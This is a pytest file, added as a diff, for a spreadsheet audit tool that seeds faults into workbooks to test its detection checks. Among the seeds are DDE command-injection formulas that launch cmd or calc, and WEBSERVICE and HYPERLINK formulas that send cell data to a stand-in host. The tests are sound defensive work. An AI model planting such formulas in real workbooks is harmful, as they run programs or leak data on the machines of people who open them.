@@ -1,0 +1,678 @@
+"""`vram audit`: the templates pass, each seeded fault is caught by its check alone, and no ordinary workbook is."""
+
+from __future__ import annotations
+
+import json
+import re
+from dataclasses import replace
+from io import BytesIO
+from pathlib import Path
+
+import openpyxl
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from lxml import etree
+from openpyxl.chart import BarChart, Reference
+from openpyxl.formula.translate import Translator
+from openpyxl.styles import Color, Font, GradientFill, PatternFill, Protection
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.table import Table, TableColumn, TableFormula
+
+from core import catalog
+from tests.workbook.package_edits import DRAWING, MAIN, Xlsx
+from workbook.audit.colours import BLACK, WHITE, Palette, contrast
+from workbook.audit.formula import FormulaReader
+from workbook.audit.opening import Budget, Package, opened
+from workbook.audit.references import Resolver
+from workbook.audit.run import CHECKS, audit
+from workbook.audit.subject import Place, subject
+from workbook.audit.tracing import Precedents
+from workbook.cached_values import with_values
+from workbook.recalculation import computed_values
+from workbook.sheets import scenarios
+from workbook.template import build
+
+pytestmark = pytest.mark.slow
+
+FREE = "H5"  # on the Article sheet: a formula that nothing beside it resembles
+
+
+def failing(path: Path, *, with_house: bool = True) -> dict[str, list[str]]:
+    """The checks that fail → the places."""
+    results = audit(path, with_house=with_house)
+    return {result.check.key: [str(fault) for fault in result.faults] for result in results if not result.passed}
+
+
+def test_the_templates_pass(planner):
+    assert failing(planner) == {}
+
+
+# --- faults seeded into the template ---------------------------------------------------------------------------------
+
+
+def article(text: str, stored: str | None = "1", type_: str | None = None):
+    """Seeds a formula into a cell of the Article sheet."""
+    return lambda x: x.formula("Article", FREE, text, stored, type_)
+
+
+def around(before: str, after: str, cell: str = FREE):
+    """Seeds something around the formula that stands in a cell of the Article sheet."""
+    return lambda x: x.formula("Article", cell, before + x.formula_text("Article", cell) + after)
+
+
+def sheet(title: str, change):
+    return lambda x: x.edit_sheet(title, change)
+
+
+def workbook(change):
+    return lambda x: x.edit("xl/workbook.xml", change)
+
+
+def attribute(path: str, **values: str | None):
+    """A change that sets attributes of the first element at `path`, or removes those that are None."""
+
+    def change(root) -> None:
+        element = root.find(".//" + "/".join(MAIN + tag for tag in path.split("/")))
+        for name, value in values.items():
+            element.attrib.pop(name, None)
+            if value is not None:
+                element.set(name, value)
+
+    return change
+
+
+def removed(tag: str):
+    def change(root) -> None:
+        element = root.find(f".//{MAIN}{tag}")
+        element.getparent().remove(element)
+
+    return change
+
+
+def sheet_entry(title: str, **values: str):
+    return lambda root: next(e for e in root.iter(MAIN + "sheet") if e.get("name") == title).attrib.update(values)
+
+
+def name_text(name: str, text: str):
+    def change(root) -> None:
+        next(e for e in root.iter(MAIN + "definedName") if e.get("name") == name).text = text
+
+    return workbook(change)
+
+
+def row(number: int, **values: str):
+    return lambda root: next(e for e in root.iter(MAIN + "row") if e.get("r") == str(number)).attrib.update(values)
+
+
+def format_of(title: str, address: str, **values: str):
+    """Changes the cell format of a cell, and of all that share it."""
+
+    def seed(x: Xlsx) -> None:
+        index = x.style_of(title, address)
+        x.edit("xl/styles.xml", lambda root: root.find(f"{MAIN}cellXfs")[index].attrib.update(values))
+
+    return seed
+
+
+def white_text(x: Xlsx) -> None:
+    """White text where the notes are grey."""
+
+    def change(root) -> None:
+        for colour in root.find(f"{MAIN}fonts").iter(MAIN + "color"):
+            if colour.get("rgb") == "004D4D4D":
+                colour.set("rgb", "00FFFFFF")
+
+    x.edit("xl/styles.xml", change)
+
+
+def first_list(source: str):
+    def change(root) -> None:
+        next(rule for rule in root.iter(MAIN + "dataValidation") if rule.get("type") == "list")[0].text = source
+
+    return change
+
+
+def merged(root) -> None:
+    cells = etree.Element(MAIN + "mergeCells", count="1")
+    etree.SubElement(cells, MAIN + "mergeCell", ref="B5:B6")
+    root.find(MAIN + "sheetProtection").addnext(cells)
+
+
+def external_part(x: Xlsx) -> None:
+    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"
+    x.add("xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN[1:-1]}"/>'.encode())
+    x.add(
+        "xl/externalLinks/_rels/externalLink1.xml.rels",
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{relation}" Target="file:///C:/other.xlsx" TargetMode="External"/>'
+        "</Relationships>".encode(),
+    )
+
+
+def no_alternative_text(x: Xlsx) -> None:
+    def change(root) -> None:
+        del root.find(f".//{DRAWING}cNvPr").attrib["descr"]
+
+    x.edit("xl/drawings/drawing1.xml", change)
+
+
+def two_cells_in_a_circle(x: Xlsx) -> None:
+    x.formula("Article", "H5", "H6*1")
+    x.formula("Article", "H6", "0+H5")
+
+
+def hidden_name(x: Xlsx) -> None:
+    x.edit("xl/workbook.xml", lambda root: next(root.iter(MAIN + "definedName")).set("hidden", "1"))
+
+
+# (check, seed, a place that it names)
+SEEDS = {
+    "vba": ("macros", lambda x: x.add("xl/vbaProject.bin"), "xl/vbaProject.bin"),
+    "vba under another name": ("macros", lambda x: x.add("docs/VBAPROJECT.bin"), "docs/VBAPROJECT.bin"),
+    "Excel 4 macro": ("macros", lambda x: x.add("xl/macrosheets/sheet1.xml", b"<a/>"), "xl/macrosheets/sheet1.xml"),
+    "external formula": ("external_links", article("[1]Sheet1!$A$1"), "Article!H5"),
+    "external formula by path": ("external_links", article(r"'C:\[other.xlsx]Sheet 1'!$A$1"), "Article!H5"),
+    "external name": ("external_links", name_text("real_kv_gb", "[1]Sheet1!$A$1"), "name real_kv_gb"),
+    "external part": ("external_links", external_part, "xl/externalLinks/externalLink1.xml"),
+    "connection": ("outside_parts", lambda x: x.add("xl/connections.xml", b"<a/>"), "xl/connections.xml"),
+    "ActiveX": ("outside_parts", lambda x: x.add("xl/activeX/activeX1.xml", b"<a/>"), "xl/activeX/activeX1.xml"),
+    "OLE object": ("outside_parts", lambda x: x.add("xl/embeddings/oleObject1.bin"), "xl/embeddings/oleObject1.bin"),
+    "Power Query": (
+        "outside_parts",
+        lambda x: x.add("customXml/item1.xml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup"/>'),
+        "customXml/item1.xml",
+    ),
+    "DDE": ("injected_formulas", article("cmd|'/c calc'!A0"), "Article!H5"),
+    "DDE in a path": ("injected_formulas", article(r"MSEXCEL|'\..\..\cmd.exe /c calc'!''"), "Article!H5"),
+    "DDE in a name": ("injected_formulas", name_text("real_kv_gb", "cmd|'/c calc'!A0"), "name real_kv_gb"),
+    "DDE as text": ("injected_formulas", lambda x: x.text("Models", "B13", "@SUM(1)+cmd|'/c calc'!A0"), "Models!B13"),
+    "formula as text": ("injected_formulas", lambda x: x.text("Models", "B13", "=1+1"), "Models!B13"),
+    "WEBSERVICE": ("injected_formulas", article('_xlfn.WEBSERVICE("http://x.example/"&A1)'), "Article!H5"),
+    "HYPERLINK": ("injected_formulas", article('HYPERLINK("http://x.example/?"&A1,"click")'), "Article!H5"),
+    "HYPERLINK, computed": ("injected_formulas", article('HYPERLINK(A1&"","click")'), "Article!H5"),
+    "unreadable": ("injected_formulas", article("SUM((1"), "Article!H5"),
+    "hidden sheet": ("hidden", workbook(sheet_entry("Precisions", state="hidden")), "Precisions"),
+    "very hidden sheet": ("hidden", workbook(sheet_entry("Precisions", state="veryHidden")), "Precisions"),
+    "hidden row": ("hidden", sheet("Models", row(6, hidden="1")), "Models!6:6"),
+    "row of no height": ("hidden", sheet("Models", row(6, ht="0", customHeight="1")), "Models!6:6"),
+    "hidden column": ("hidden", sheet("Models", attribute("cols/col", hidden="1")), "Models!A:A"),
+    "column of no width": ("hidden", sheet("Models", attribute("cols/col", width="0")), "Models!A:A"),
+    "hidden name": ("hidden", hidden_name, "addin_loaded"),
+    "no stored value": ("values_stored", article("1+1", None), "Article!H5"),
+    "error value": ("error_values", article("0+1", "#DIV/0!", "e"), "Article!H5"),
+    "broken name": ("names", name_text("real_kv_gb", "Article!#REF!"), "name real_kv_gb"),
+    "name of no sheet": ("names", name_text("real_kv_gb", "Gone!$A$1"), "name real_kv_gb"),
+    "unknown name": ("names", article("no_such_name+1"), "Article!H5"),
+    "unknown table column": ("names", article("SUM(Models[Gone])"), "Article!H5"),
+    "broken reference": ("names", article("#REF!+1"), "Article!H5"),
+    "number in a table column": ("hard_coded", lambda x: x.number("Scenarios", "N9", 140), "Scenarios!N9"),
+    "number in its first row": ("hard_coded", lambda x: x.number("Scenarios", "Q7", 1034), "Scenarios!Q7"),
+    "number in its last row": ("hard_coded", lambda x: x.number("Scenarios", "R16", 4), "Scenarios!R16"),
+    "number in a grid": ("hard_coded", lambda x: x.number("Sensitivity", "D17", 7), "Sensitivity!D17"),
+    "number in its corner": ("hard_coded", lambda x: x.number("Sensitivity", "H23", 7), "Sensitivity!H23"),
+    "number in a formula's style": ("hard_coded", lambda x: x.number("Article", "E19", 140), "Article!E19"),
+    "another formula in a grid": (
+        "inconsistent",
+        lambda x: x.formula("Sensitivity", "D17", x.formula_text("Sensitivity", "D17") + "+1"),
+        "Sensitivity!D17",
+    ),
+    "another formula in a table": (
+        "inconsistent",
+        lambda x: x.formula("Scenarios", "O7", x.formula_text("Scenarios", "O7") + "+1"),
+        "Scenarios!O7",
+    ),
+    "a row off": (
+        "inconsistent",
+        lambda x: x.formula("Sensitivity", "C32", "ROUNDUP(C16/$B$8-10^-9,0)"),
+        "Sensitivity!C32",
+    ),
+    "NOW": ("volatile", article("NOW()"), "Article!H5"),
+    "OFFSET": ("volatile", article("SUM(OFFSET(A1,1,0))"), "Article!H5"),
+    "INDIRECT in a name": ("volatile", name_text("real_kv_gb", 'INDIRECT("A1")'), "name real_kv_gb"),
+    "whole column": ("whole_columns", article("SUM(Models!D:D)"), "Article!H5"),
+    "whole row": ("whole_columns", article("SUM(Models!$5:$6)"), "Article!H5"),
+    "circle": ("circular", two_cells_in_a_circle, "Article!H6"),
+    "circle within a range": ("circular", article("SUM(H4:H7)"), "Article!H5"),
+    "circle of names": ("circular", name_text("real_kv_gb", "real_kv_gb"), "name real_kv_gb"),
+    "iteration": ("circular", workbook(attribute("calcPr", iterate="1")), "workbook"),
+    "empty list": ("lists", sheet("Sensitivity", first_list("$X$1:$X$3")), "Sensitivity!B4"),
+    "list of a broken name": ("names", sheet("Sensitivity", first_list("#REF!")), "validation of Sensitivity!B4"),
+    "list of no choices": ("lists", sheet("Sensitivity", first_list('","')), "Sensitivity!B4"),
+    "input out of bounds": ("inputs_valid", lambda x: x.number("Article", "E10", 1.5), "Article!E10"),
+    "input not in the list": ("inputs_valid", lambda x: x.text("Scenarios", "B7", "lama"), "Scenarios!B7"),
+    "input below a limit in a cell": ("inputs_valid", lambda x: x.number("Scenarios", "D9", 0), "Scenarios!D9"),
+    "text in place of a number": ("inputs_valid", lambda x: x.text("Scenarios", "D9", "ten"), "Scenarios!D9"),
+    "no About sheet": ("about_first", workbook(sheet_entry("About", name="Intro")), "Intro"),
+    "no date": ("dated_changes", lambda x: x.text("Changes", "B5", "soon"), "Changes"),
+    "no Changes sheet": ("dated_changes", workbook(sheet_entry("Changes", name="News")), "workbook"),
+    "a check fails": (
+        "master_check",
+        lambda x: x.formula("Checks", "B5", x.formula_text("Checks", "B5"), "0"),
+        "Checks!B5",
+    ),
+    "checks not shown": ("master_check", lambda x: x.formula("About", "B9", '"fine"', "fine", "str"), "About"),
+    "constant": ("constants", around("", "*1.1"), "Article!H5"),
+    "per cent": ("constants", around("", "*1%"), "Article!H5"),
+    "a power that is no unit": ("constants", around("", "+10^2"), "Article!H5"),
+    "IFERROR": ("iferror_round", around("IFERROR(", ",0)"), "Article!H5"),
+    "ROUND": ("iferror_round", around("ROUND(", ",0)"), "Article!H5"),
+    "add-in function": ("headlines", around("", "*VRAM_WEIGHTS(1)", "H23"), "name real_total_gb"),
+    "rule without a title": (
+        "inputs_validated",
+        sheet("Sensitivity", attribute("dataValidation", promptTitle=None)),
+        "Sensitivity!B4",
+    ),
+    "input without a rule": ("inputs_validated", sheet("Sensitivity", removed("dataValidation")), "Sensitivity!B4"),
+    "unprotected": ("protection", sheet("Article", removed("sheetProtection")), "Article"),
+    "password": ("protection", sheet("Article", attribute("sheetProtection", password="CC1A")), "Article"),
+    "percentage of GB": ("number_formats", format_of("Scenarios", "N7", numFmtId="9"), "Scenarios!N7"),
+    "decimals of GPUs": ("number_formats", format_of("Article", "E25", numFmtId="2"), "Article!E25"),
+    "a share as a plain number": ("number_formats", format_of("Scenarios", "J7", numFmtId="2"), "Scenarios!J7"),
+    "white on white": ("contrast", white_text, "About!A2"),
+    "no alternative text": ("alternative_texts", no_alternative_text, "xl/drawings/drawing1.xml"),
+    "merged": ("merged", sheet("Article", merged), "Article!B5:B6"),
+    "portrait": ("print", sheet("Models", attribute("pageSetup", orientation="portrait")), "Models"),
+    "no footer": ("print", sheet("Models", removed("headerFooter")), "Models"),
+    "not frozen": ("frozen", sheet("Models", removed("pane")), "Models"),
+    "cursor": (
+        "cursor",
+        sheet("Changes", lambda root: [s.set("activeCell", "C9") for s in root.iter(MAIN + "selection")]),
+        "Changes!C9",
+    ),
+    "scrolled": ("cursor", sheet("About", attribute("sheetView", topLeftCell="A9")), "About!A9"),
+    "another sheet in front": ("cursor", workbook(attribute("workbookView", activeTab="2")), "Scenarios"),
+}
+
+
+@pytest.fixture(scope="module")
+def small_planner() -> bytes:
+    """The template with the models and GPUs that its examples name, and a few more: a fault costs a second less."""
+    examples = {(row.model, row.gpu) for row in scenarios.DEFAULT_SCENARIOS}
+    models, gpus = {model for model, _ in examples}, {gpu for _, gpu in examples}
+    kept = [model for i, model in enumerate(catalog.models()) if i < 20 or model.name in models]
+    bought = [gpu for i, gpu in enumerate(catalog.gpus()) if i < 4 or gpu.name in gpus]
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(catalog, "models", lambda: tuple(kept))
+        patch.setattr(catalog, "gpus", lambda: tuple(bought))
+        patch.setattr(catalog, "gpu_names", lambda: tuple(gpu.name for gpu in bought))
+        return build("en")[0]
+
+
+def test_the_small_planner_passes(small_planner, tmp_path):
+    path = tmp_path / "small.xlsx"
+    path.write_bytes(small_planner)
+    assert failing(path) == {}
+
+
+@pytest.mark.parametrize("name", SEEDS)
+def test_each_fault_is_caught_by_its_check_alone(small_planner, tmp_path, name):
+    check, seed, place = SEEDS[name]
+    x = Xlsx(small_planner)
+    seed(x)
+    path = tmp_path / "seeded.xlsx"
+    path.write_bytes(x.content)
+    found = failing(path)
+    assert list(found) == [check], found
+    assert any(fault.split(" (")[0].startswith(place) for fault in found[check]), found
+
+
+def test_every_check_has_a_seed():
+    assert {check for check, *_ in SEEDS.values()} == {check.key for check in CHECKS}
+
+
+# --- ordinary workbooks ----------------------------------------------------------------------------------------------
+
+
+def stored(book: openpyxl.Workbook, path: Path) -> Path:
+    """Writes a workbook with the results of its formulas, as a spreadsheet program would."""
+    out = BytesIO()
+    book.save(out)
+    path.write_bytes(with_values(out.getvalue(), computed_values(out.getvalue())))
+    return path
+
+
+@pytest.fixture
+def budget() -> openpyxl.Workbook:
+    """A small workbook by nobody's house style: opening balance, flows, closing balance, totals, a chart."""
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.title = "Budget 2027"
+    ws.append(["USD", "Jan", "Feb", "Mar", "Apr", "Year"])
+    ws.append(["Opening", 100, "=B5", "=C5", "=D5", None])
+    ws.append(["In", 10, 20, 30, 40, "=SUM(B3:E3)"])
+    ws.append(["Out", -5, -6, -7, -8, "=SUM(B4:E4)"])
+    ws.append(["Closing", *(f"={c}2+{c}3+{c}4" for c in "BCDE"), None])
+    ws.append(["Growth", None, "=C5/B5-1", "=D5/C5-1", "=E5/D5-1", None])
+    ws.append(["Note: -5 and +3|4 are text", "-", "+", "@home", '=HYPERLINK("#"&"A1","up")', None])
+    chart = BarChart()
+    chart.add_data(Reference(ws, min_col=2, max_col=5, min_row=3, max_row=4))
+    ws.add_chart(chart, "A10")
+    book.defined_names["growth"] = DefinedName("growth", attr_text="'Budget 2027'!$C$6:$E$6")
+    return book
+
+
+def test_an_ordinary_workbook_is_not_blamed(budget, tmp_path):
+    path = stored(budget, tmp_path / "budget.xlsx")
+    assert failing(path, with_house=False) == {}
+    assert {"about_first", "dated_changes", "print"} <= set(failing(path))
+
+
+def test_a_number_over_a_formula_is_found_in_it(budget, tmp_path):
+    budget.active["D5"] = 150
+    budget.active["F4"] = -26
+    found = failing(stored(budget, tmp_path / "budget.xlsx"), with_house=False)
+    # F4 ends its column; nothing beside it goes on, so that it may as well be an input
+    assert found == {"hard_coded": ["'Budget 2027'!D5 (150)"]}
+
+
+def test_a_pattern_may_be_broken_by_a_row_of_subtotals_or_inputs(tmp_path):
+    book = openpyxl.Workbook()
+    ws = book.active
+    for row in range(1, 10):
+        ws.append([row, *(f"={c}{row}*$Z$1" for c in "ABC")])
+    for column in "BCD":
+        ws[f"{column}5"] = f"=SUM({column}1:{column}4)"
+        ws[f"{column}7"] = 12
+    ws["Z1"] = 2
+    assert failing(stored(book, tmp_path / "t.xlsx"), with_house=False) == {}
+
+
+def test_many_inconsistent_formulas_are_counted(vram, tmp_path):
+    book = openpyxl.Workbook()
+    for row in range(1, 101):
+        book.active.append([row, f"=A{row}*{2 if row % 9 else 3}"])
+    status, out, err = vram("audit", stored(book, tmp_path / "t.xlsx"), "--no-house")
+    assert (status, err) == (1, "")
+    assert "One formula per row or column: 11 × not: Sheet!B9, " in out and "Sheet!B45 and 6 more" in out
+
+
+@pytest.fixture
+def table_book() -> openpyxl.Workbook:
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.append(["n", "twice"])
+    for row in range(2, 8):
+        ws.append([row, "=T[[#This Row],[n]]+T[[#This Row],[n]]"])
+    table = Table(displayName="T", ref="A1:B7")
+    twice = TableFormula(attr_text="T[[#This Row],[n]]+T[[#This Row],[n]]")
+    table.tableColumns = [TableColumn(id=1, name="n"), TableColumn(id=2, name="twice", calculatedColumnFormula=twice)]
+    ws.add_table(table)
+    return book
+
+
+def test_tables(table_book, tmp_path):
+    assert failing(stored(table_book, tmp_path / "t.xlsx"), with_house=False) == {}
+    table_book.active["B7"] = 14
+    table_book.active["B2"] = "=A2*1"
+    found = failing(stored(table_book, tmp_path / "t.xlsx"), with_house=False)
+    assert found == {"hard_coded": ["Sheet!B7 (14)"], "inconsistent": ["Sheet!B2"]}
+
+
+def test_relative_limits_and_extension_rules(tmp_path):
+    """A limit may move with the cell; rules of another sheet's list stand where openpyxl does not look."""
+    book = openpyxl.Workbook()
+    ws = book.active
+    for row, (value, most) in enumerate([(1, 2), (3, 2), (5, 9)], start=1):
+        ws.append([value, most])
+    rule = DataValidation(type="whole", operator="lessThanOrEqual", formula1="B1")
+    rule.add("A1:A3")
+    ws.add_data_validation(rule)
+    ws["D1"], ws["D2"] = "red", "purple"
+    book.create_sheet("Lists")
+    for row, colour in enumerate(["red", "green"], start=1):
+        book["Lists"].cell(row, 1, colour)
+    x = Xlsx(stored(book, tmp_path / "t.xlsx").read_bytes())
+    extension = (
+        '<extLst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ext'
+        ' uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"'
+        ' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="1"'
+        ' xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation type="list">'
+        "<x14:formula1><xm:f>Lists!$A$1:$A$2</xm:f></x14:formula1><xm:sqref>D1:D2</xm:sqref>"
+        "</x14:dataValidation></x14:dataValidations></ext></extLst>"
+    )
+    x.edit_sheet("Sheet", lambda root: root.append(etree.fromstring(extension)))
+    (tmp_path / "t.xlsx").write_bytes(x.content)
+    assert failing(tmp_path / "t.xlsx", with_house=False) == {"inputs_valid": ["Sheet!A2 (3)", "Sheet!D2 (purple)"]}
+
+
+def test_protection_looks_at_cells(tmp_path):
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws["A1"], ws["B1"] = 1, "=A1"
+    ws["B1"].protection = Protection(locked=False)
+    rule = DataValidation(type="whole", formula1="0", formula2="9")
+    rule.add("A1")
+    ws.add_data_validation(rule)
+    ws.protection.sheet = True
+    assert failing(stored(book, tmp_path / "t.xlsx"))["protection"] == [
+        "Sheet!B1 (unlocked formula)",
+        "Sheet!A1 (locked input)",
+    ]
+
+
+def test_a_lambda_under_a_name_is_no_add_in(tmp_path):
+    book = openpyxl.Workbook()
+    book.active["A1"] = 1
+    book.active["A2"] = "=double(A1)"
+    book.active["A3"] = "=A2+_xlfn.XLOOKUP(1,A1:A1,A1:A1)+double(A2)"
+    book.defined_names["double"] = DefinedName("double", attr_text="_xlfn.LAMBDA(_xlpm.x,_xlpm.x+_xlpm.x)")
+    book.defined_names["result"] = DefinedName("result", attr_text="Sheet!$A$3")
+    book.save(tmp_path / "t.xlsx")
+    found = failing(tmp_path / "t.xlsx")
+    assert not {"headlines", "names", "circular"} & set(found)
+    book.defined_names["double"] = DefinedName("double", attr_text="_xlfn.LAMBDA(_xlpm.x,VRAM_KV(_xlpm.x))")
+    book.save(tmp_path / "t.xlsx")
+    assert "name result (VRAM_KV in itself)" in failing(tmp_path / "t.xlsx")["headlines"]
+
+
+def test_macros_are_expected_where_the_name_says_so(planners, tmp_path):
+    x = Xlsx(planners["en"].read_bytes())
+    x.add("xl/vbaProject.bin")
+    for name, expected in (("a.xlsx", {"macros"}), ("a.XLSM", set())):
+        (tmp_path / name).write_bytes(x.content)
+        assert set(failing(tmp_path / name)) == expected
+
+
+# --- how it reads ----------------------------------------------------------------------------------------------------
+
+TWO_SHEETS = openpyxl.Workbook()
+TWO_SHEETS.create_sheet("My sheet")
+TWO_SHEETS = Resolver(TWO_SHEETS)
+REFERENCES = ("A1", "$A1", "A$1", "$A$1", "B2:C9", "$B2:C$9", "'My sheet'!D4", "Sheet!$E5:F$6", "7:9", "$C:$C")
+
+
+@settings(deadline=None)
+@given(
+    st.lists(st.sampled_from(REFERENCES), min_size=1, max_size=5),
+    st.integers(0, 50),
+    st.integers(0, 20),
+)
+def test_a_formula_keeps_its_form_wherever_it_is_filled(references, down, right):
+    text = "=SUM(" + ",".join(references) + ")*10^9"
+    origin, there = Place("Sheet", 20, 20), Place("Sheet", 20 + down, 20 + right)
+    moved = Translator(text, origin=origin.coordinate).translate_formula(there.coordinate)
+    reader = FormulaReader(TWO_SHEETS)
+    first, second = reader.read(text, *origin), reader.read(moved, *there)
+    if not any(reference in text for reference in ("7:9", "$C:$C")):  # openpyxl's translator leaves some of them alone
+        assert first.form is second.form
+    assert not first.form.constants and not first.unresolved
+
+
+@pytest.mark.parametrize(
+    ("formula", "constants"),
+    [
+        ("1+0*A1", ()),
+        ("A1/10^9+A1*2^20-10^-9", ()),
+        ("A1*2", ("2",)),
+        ("A1*1.0", ()),
+        ("A1*100%", ("100%",)),
+        ("A1*0%", ()),
+        ("10^4", ("10", "4")),
+        ("2^31", ("2", "31")),
+        ("3^10", ("3", "10")),
+        ("MATCH(A1,{1,2;3,0},0)", ("2", "3")),
+        ('A1&"12"', ()),
+        ("1E9", ("1E9",)),
+    ],
+)
+def test_constants(formula, constants):
+    assert FormulaReader(Resolver(openpyxl.Workbook())).read("=" + formula, "Sheet", 1, 1).form.constants == constants
+
+
+@pytest.mark.parametrize(
+    ("text", "starts"),
+    [
+        ("=cmd|' /C calc'!A0", True),
+        ("=-2+3+cmd|' /C calc'!E1", True),
+        ('=IF(A1="a|b",1,0)', False),
+        ("='a|b'!A1", False),
+        ("=SUM(T[a|b])", False),
+        ('="x""|"', False),
+    ],
+)
+def test_what_starts_a_program(text, starts):
+    assert FormulaReader(Resolver(openpyxl.Workbook())).read(text, "Sheet", 1, 1).form.starts_program is starts
+
+
+def test_areas_of_references(table_book):
+    table_book.create_sheet("O'Hara & co")
+    table_book.defined_names["ns"] = DefinedName("ns", attr_text="T[n]")
+    resolver = Resolver(table_book)
+
+    def areas(operand: str) -> list[tuple]:
+        return [tuple(area) for area in resolver.areas(operand, "Sheet", 4, 2)]
+
+    assert areas("b3:$A$2") == [("Sheet", 2, 1, 3, 2)]
+    assert areas("'o''hara & co'!A1") == [("O'Hara & co", 1, 1, 1, 1)]
+    assert areas("'Sheet:O''Hara & co'!A1") == [("Sheet", 1, 1, 1, 1), ("O'Hara & co", 1, 1, 1, 1)]
+    assert areas("T[n]") == [("Sheet", 2, 1, 7, 1)]
+    assert areas("T") == areas("t[]") == [("Sheet", 2, 1, 7, 2)]
+    assert areas("T[[#This Row],[n]:[twice]]") == areas("T[@]") == [("Sheet", 4, 1, 4, 2)]
+    assert areas("[@twice]") == [("Sheet", 4, 2, 4, 2)]
+    assert areas("T[[#Headers],[n]]") == [("Sheet", 1, 1, 1, 1)]
+    assert areas("T[#All]") == [("Sheet", 1, 1, 7, 2)]
+    assert areas("C:C") == [("Sheet", 1, 3, 1_048_576, 3)]
+    assert areas("[1]Other!A1") == []
+    assert resolver.areas("NS", "Sheet", 4, 2) == (None, "ns")
+
+
+@settings(max_examples=30, deadline=None)
+@given(st.integers(1, 40), st.data())
+def test_what_a_range_is_computed_from(count, data):
+    """Blocks or not: all formulas within the range and none besides."""
+    first = data.draw(st.integers(1, count))
+    last = data.draw(st.integers(first, count))
+    book = openpyxl.Workbook()
+    for row in range(1, count + 1):
+        book.active.cell(row, 1, "=1")
+    book.active["C1"] = f"=SUM(A{first}:B{last})"
+    out = BytesIO()
+    book.save(out)
+    path = Path("range.xlsx")
+    looked_at = subject(Package(path, out.getvalue(), ()))
+    found = {node for node in Precedents(looked_at).all_of(Place("Sheet", 1, 3)) if isinstance(node, Place)}
+    assert found == {Place("Sheet", 1, 3), *(Place("Sheet", row, 1) for row in range(first, last + 1))}
+
+
+def test_running_totals_are_traced_without_looking_at_every_pair(tmp_path):
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.append(["=1"])
+    for row in range(2, 2000):
+        ws.append([f"=SUM(A$1:A{row - 1})"])
+    path = tmp_path / "t.xlsx"
+    for first, has_cycle in (("=1", False), ("=A1999", True)):
+        ws["A1"] = first
+        book.save(path)
+        looked_at = replace(subject(opened(path)), budget=Budget(path, 100_000))  # there are two million pairs
+        assert (Place("Sheet", 1, 1) in Precedents(looked_at).cycle()) is has_cycle
+
+
+# --- colours ---------------------------------------------------------------------------------------------------------
+
+
+def test_contrast():
+    # Origin: WCAG 2.2 (21:1 is the most); #767676 is known as the lightest grey that passes on white, 4.54:1.
+    assert contrast(BLACK, WHITE) == pytest.approx(21)
+    assert contrast(WHITE, WHITE) == 1
+    grey = (0x76 / 255,) * 3
+    assert contrast(grey, WHITE) == pytest.approx(4.54, abs=0.005)
+
+
+def test_theme_and_indexed_colours():
+    palette = Palette(None)
+    assert palette.colour(Color(theme=0), BLACK) == WHITE
+    assert palette.colour(Color(theme=1), WHITE) == BLACK
+    assert palette.colour(Color(indexed=10), BLACK) == (1, 0, 0)
+    assert palette.colour(Color(indexed=64), BLACK) == BLACK
+    assert palette.colour(Color(auto=True), BLACK) == BLACK
+    # Origin: ECMA-376 part 1, 18.8.19: a tint of -0.25 takes a quarter of the lightness: white becomes BFBFBF.
+    assert palette.colour(Color(theme=0, tint=-0.25), BLACK) == pytest.approx((0.75,) * 3)
+    assert palette.colour(Color(theme=1, tint=0.5), WHITE) == pytest.approx((0.5,) * 3)
+
+
+@pytest.mark.parametrize(
+    ("font", "fill", "passes"),
+    [
+        (None, None, True),
+        (Font(color="FFFFFFFF"), None, False),
+        (Font(color=Color(theme=0)), PatternFill("solid", start_color=Color(theme=1)), True),
+        (Font(color=Color(theme=0)), PatternFill("solid", start_color=Color(theme=0, tint=-0.15)), False),
+        (Font(color="FF000000"), GradientFill(stop=("FFFFFFFF", "FF111111")), False),
+        (Font(color="FF1A1A1A"), PatternFill("solid", start_color="FF1F3864"), False),
+    ],
+)
+def test_contrast_of_cells(tmp_path, font, fill, passes):
+    book = openpyxl.Workbook()
+    book.active["A1"] = "text"
+    if font:
+        book.active["A1"].font = font
+    if fill:
+        book.active["A1"].fill = fill
+    book.save(tmp_path / "t.xlsx")
+    assert ("contrast" not in failing(tmp_path / "t.xlsx")) is passes
+
+
+# --- the command -----------------------------------------------------------------------------------------------------
+
+
+def test_the_command_prints_a_line_for_each_check(vram, planner):
+    status, out, err = vram("audit", planner)
+    assert (status, err) == (0, "")
+    assert len(re.findall(r"^  ✓ ", out, re.MULTILINE)) == len(CHECKS) and "✗" not in out
+    assert out.endswith(f"All {len(CHECKS)} checks pass.\n")
+
+
+def test_the_command_names_places_and_fails(vram, planners, tmp_path):
+    x = Xlsx(planners["zh"].read_bytes())
+    x.number("方案", "N9", 140)
+    (tmp_path / "t.xlsx").write_bytes(x.content)
+    status, out, err = vram("audit", tmp_path / "t.xlsx")
+    assert (status, err) == (1, "")
+    assert "  ✗ No hard-coded number among formulas: 1 × not: 方案!N9 (140)\n" in out
+    assert out.endswith(f"1 of {len(CHECKS)} checks fail.\n")
+
+
+def test_json(vram, planners, tmp_path):
+    x = Xlsx(planners["en"].read_bytes())
+    x.number("Scenarios", "N9", 140)
+    (tmp_path / "t.xlsx").write_bytes(x.content)
+    status, out, err = vram("audit", tmp_path / "t.xlsx", "--json")
+    assert (status, err) == (1, "")
+    answer = json.loads(out)
+    assert answer["passed"] is False
+    assert [check["check"] for check in answer["checks"]] == [check.key for check in CHECKS]
+    (failed,) = [check for check in answer["checks"] if not check["passed"]]
+    assert failed == {
+        "check": "hard_coded",
+        "kind": "integrity",
+        "claim": "No hard-coded number among formulas",
+        "passed": False,
+        "faults": 1,
+        "places": [{"place": "Scenarios!N9", "detail": "140"}],
+    }
